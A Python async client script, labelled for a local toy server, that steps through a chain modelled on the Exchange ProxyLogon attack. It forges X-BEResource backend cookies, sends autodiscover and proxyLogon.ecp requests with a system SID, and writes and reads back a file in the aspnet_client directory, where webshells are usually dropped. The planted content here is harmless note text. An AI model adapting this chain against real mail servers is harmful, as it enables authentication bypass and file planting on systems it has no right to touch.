# ruff: noqa
"""Lab chain as an async client class; settings in a frozen dataclass (toy server only)."""

from __future__ import annotations

import argparse
import asyncio
import json
from dataclasses import dataclass, field

import aiohttp


@dataclass(frozen=True)
class Settings:
    host: str = "127.0.0.1"
    port: int = 8080
    backend: str = "localhost"
    domain: str = "lab.invalid"
    mailbox: str = "administrator@lab.invalid"
    browser: str = (
        "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
    )
    ticket: str = "1843073522"
    note_file: str = "readme_91453.txt"
    note_dir: str = "/aspnet_client/system_web/"
    request_id: str = "20200302-7720"
    pad: int = 37
    lines: int = 3
    timeout: float = 10.0
    common: tuple[tuple[str, str], ...] = field(default=())

    @property
    def note_path(self) -> str:
        return self.note_dir + self.note_file


class LabClient:
    def __init__(self, cfg: Settings) -> None:
        self.cfg = cfg
        self.session: aiohttp.ClientSession | None = None

    def _browser_headers(self) -> dict[str, str]:
        return {
            "User-Agent": self.cfg.browser,
            "x-requested-with": "XMLHttpRequest",
            "Accept": "*/*",
            "accept-language": "en-US,en;q=0.9",
            "connection": "close",
        }

    def _cookie(self) -> str:
        c = self.cfg
        parts = [
            "X-AnonResource=true",
            f"X-AnonResource-Backend={c.domain}",
            f"X-BEResource={c.backend}@{c.domain}/ews/exchange.asmx?a%3D~{c.ticket}",
        ]
        return "; ".join(parts)

    async def __aenter__(self) -> LabClient:
        self.session = aiohttp.ClientSession(
            base_url=f"http://{self.cfg.host}:{self.cfg.port}",
            timeout=aiohttp.ClientTimeout(total=self.cfg.timeout),
        )
        return self

    async def __aexit__(self, *exc: object) -> None:
        assert self.session is not None
        await self.session.close()

    async def probe(self) -> int:
        assert self.session is not None
        headers = self._browser_headers()
        headers["cookie"] = self._cookie()
        query = {
            "Pad": "A" * self.cfg.pad,
            "Protocol": "Autodiscoverv1",
            "Email": self.cfg.mailbox + "/mapi/nspi",
            "RequestId": self.cfg.request_id,
        }
        async with self.session.get(
            "/autodiscover/autodiscover.json", params=query, headers=headers
        ) as resp:
            await resp.read()
            return resp.status

    async def identity(self) -> str:
        assert self.session is not None
        headers = {
            "user-agent": self.cfg.browser,
            "msexchlogonmailbox": "S-1-5-20",
            "content-type": "application/json",
            "X-BEResource": f"{self.cfg.backend}@{self.cfg.domain}/ecp/proxyLogon.ecp",
        }
        body = json.dumps(
            {"mailbox": self.cfg.mailbox, "requestKind": "identity", "seq": 1}, sort_keys=True
        )
        async with self.session.post("/ecp/proxyLogon.ecp", data=body, headers=headers) as resp:
            text = (await resp.text()).strip()
            return text if resp.status == 200 and text else "anonymous"

    async def note(self, who: str) -> int:
        assert self.session is not None
        body = "\n".join(
            f"note {n} of {self.cfg.lines} for {who}" for n in range(1, self.cfg.lines + 1)
        )
        headers = {
            "user-agent": self.cfg.browser,
            "X-Note-Path": self.cfg.note_path,
            "Content-Type": "text/plain",
        }
        async with self.session.post(
            self.cfg.note_path, data=body.encode(), headers=headers
        ) as resp:
            return resp.status

    async def check(self) -> int:
        assert self.session is not None
        async with self.session.get(self.cfg.note_path, headers=self._browser_headers()) as resp:
            return len(await resp.content.read(1024))


async def run(cfg: Settings) -> dict[str, object]:
    out: dict[str, object] = {}
    async with LabClient(cfg) as lab:
        out["reachable"] = await lab.probe() < 500
        if out["reachable"]:
            who = await lab.identity()
            out["identity"] = who
            out["written"] = await lab.note(who)
            out["read_back"] = await lab.check()
    return out


def cli() -> Settings:
    p = argparse.ArgumentParser(description="toy server only")
    p.add_argument("port", nargs="?", type=int, default=8080)
    return Settings(port=p.parse_args().port)


if __name__ == "__main__":
    print(json.dumps(asyncio.run(run(cli())), indent=2))
